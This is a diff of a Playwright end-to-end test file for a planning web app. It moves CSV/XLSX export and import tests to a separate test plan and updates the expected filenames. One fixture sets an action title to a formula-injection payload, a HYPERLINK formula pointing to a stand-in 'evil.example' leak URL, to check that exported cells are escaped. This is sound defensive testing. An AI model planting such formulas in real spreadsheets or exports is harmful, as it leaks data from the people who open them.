@@ -6,7 +6,10 @@ import { getDb } from "@/db";
 import { actions, progressUpdates } from "@/db/schema";
 import { PLAN, expect, expectNoA11yViolations, test, type Page } from "./fixtures";
 import { authFile } from "./support/accounts";
-import { CURRENT, createGroupWithActions, ensureCurrentPeriod } from "./support/quarter";
+import { CURRENT, LOOP_PLAN, createGroupWithActions, ensureCurrentPeriod } from "./support/quarter";
+
+// Specs that add actions and periods do it in the loop plan, never the seeded SJV plan.
+const LOOP = `/plans/${LOOP_PLAN.slug}`;
 
 // Spreadsheets, as staff use them: the filtered action list downloaded as CSV
 // and XLSX, and one quarter's updates imported from an XLSX file (a bad row is
@@ -36,11 +39,11 @@ test("the action list downloads as CSV and XLSX with its filter, every cell esca
   const hostile = '=HYPERLINK("http://evil.example/?leak","Click me")';
   getDb().update(actions).set({ title: hostile }).where(eq(actions.id, made[0]!.id)).run();
 
-  await page.goto(`${PLAN}/actions?group=sheets-list-wg`);
+  await page.goto(`${LOOP}/actions?group=sheets-list-wg`);
   await expect(page.getByRole("status")).toHaveText("Showing 1–3 of 3 actions matching the filters.");
 
   const csv = await download(page, "Download the 3 matching actions as CSV");
-  expect(csv.name).toBe("sjv-2012-actions.csv");
+  expect(csv.name).toBe("e2e-loop-actions.csv");
   const records = parse(csv.bytes, { bom: true }) as string[][];
   expect(records[0]!.slice(0, 3)).toEqual(["Code", "Title", "Text"]);
   expect(records.slice(1).map((r) => r[0])).toEqual(["SHEETS-LIST-WG-1", "SHEETS-LIST-WG-2", "SHEETS-LIST-WG-3"]);
@@ -48,7 +51,7 @@ test("the action list downloads as CSV and XLSX with its filter, every cell esca
   expect(records[2]).toEqual(expect.arrayContaining(["Action 2 of sheets-list-wg", "Do the 2th thing for sheets-list-wg.", "Work group sheets-list-wg", "sheets-list-wg", "Not started"]));
 
   const xlsx = await download(page, "Download the 3 matching actions as Excel (XLSX)");
-  expect(xlsx.name).toBe("sjv-2012-actions.xlsx");
+  expect(xlsx.name).toBe("e2e-loop-actions.xlsx");
   const book = new ExcelJS.Workbook();
   await book.xlsx.load(xlsx.bytes as unknown as ExcelJS.Buffer);
   const sheet = book.worksheets[0]!;
@@ -60,8 +63,8 @@ test("the action list downloads as CSV and XLSX with its filter, every cell esca
   expect(sheet.getCell("B2").type).toBe(ExcelJS.ValueType.String);
 
   // The route answers as a download, and sniffing is off.
-  const response = await page.request.get(`${PLAN}/actions/export?format=xlsx&group=sheets-list-wg`);
-  expect(response.headers()).toMatchObject({ "content-type": XLSX_TYPE, "content-disposition": 'attachment; filename="sjv-2012-actions.xlsx"', "x-content-type-options": "nosniff" });
+  const response = await page.request.get(`${LOOP}/actions/export?format=xlsx&group=sheets-list-wg`);
+  expect(response.headers()).toMatchObject({ "content-type": XLSX_TYPE, "content-disposition": 'attachment; filename="e2e-loop-actions.xlsx"', "x-content-type-options": "nosniff" });
 });
 
 test("an XLSX import of updates with a bad row previews the problem and writes nothing; fixed, it imports", async ({ page }) => {
@@ -70,7 +73,7 @@ test("an XLSX import of updates with a bad row previews the problem and writes n
   const [first, second] = made as [(typeof made)[0], (typeof made)[0]];
   const header = ["Action code", "Status", "Percent complete", "Narrative"];
   const upload = async (rows: ExcelJS.CellValue[][], name: string) => {
-    await page.goto(`${PLAN}/import`);
+    await page.goto(`${LOOP}/import`);
     await page.getByRole("radio", { name: "Progress updates for one quarter" }).check();
     await page.getByLabel("Quarter (for progress updates)").selectOption({ label: `${CURRENT.label} (open, current)` });
     await page.getByLabel("Spreadsheet file").setInputFiles({ name, mimeType: XLSX_TYPE, buffer: await workbook([header, ...rows]) });
@@ -78,7 +81,7 @@ test("an XLSX import of updates with a bad row previews the problem and writes n
     await expect(page.getByRole("heading", { level: 1, name: `Preview of ${name}` })).toBeVisible();
   };
 
-  await page.goto(PLAN);
+  await page.goto(LOOP);
   await page.getByRole("navigation", { name: "Plan" }).getByRole("link", { name: "Import" }).click();
   await expect(page.getByRole("heading", { level: 1, name: "Import from a spreadsheet" })).toBeVisible();
   await expectNoA11yViolations(page);
@@ -129,14 +132,15 @@ test("an XLSX import of updates with a bad row previews the problem and writes n
 
 test("staff download the tracker and the import templates", async ({ page }) => {
   ensureCurrentPeriod();
-  const tracker = await page.request.get(`${PLAN}/tracker/export?format=csv&group=energy-wg`);
+  const { actions: made } = createGroupWithActions("sheets-tracker-wg", 2);
+  const tracker = await page.request.get(`${LOOP}/tracker/export?format=csv&group=sheets-tracker-wg`);
   expect(tracker.status()).toBe(200);
-  expect(tracker.headers()["content-disposition"]).toBe('attachment; filename="sjv-2012-tracker-2026-q4.csv"');
+  expect(tracker.headers()["content-disposition"]).toBe('attachment; filename="e2e-loop-tracker-2026-q4.csv"');
   const rows = parse(await tracker.body(), { bom: true }) as string[][];
   expect(rows[0]).toEqual(["Work group", "Code", "Action", "State", "Review state", "Draft saved", "Last update", "Updated by", "Stale"]);
-  expect(rows.slice(1).map((r) => r[1])).toEqual(["EN-1", "EN-2", "EN-3", "EN-4", "EN-5", "EN-6"]);
+  expect(rows.slice(1).map((r) => r[1])).toEqual(made.map((a) => a.code));
 
-  await page.goto(`${PLAN}/import`);
+  await page.goto(`${LOOP}/import`);
   const template = await download(page, "Download the updates template as CSV");
   expect(template.name).toBe("updates-import-template.csv");
   expect(parse(template.bytes, { bom: true })).toEqual([
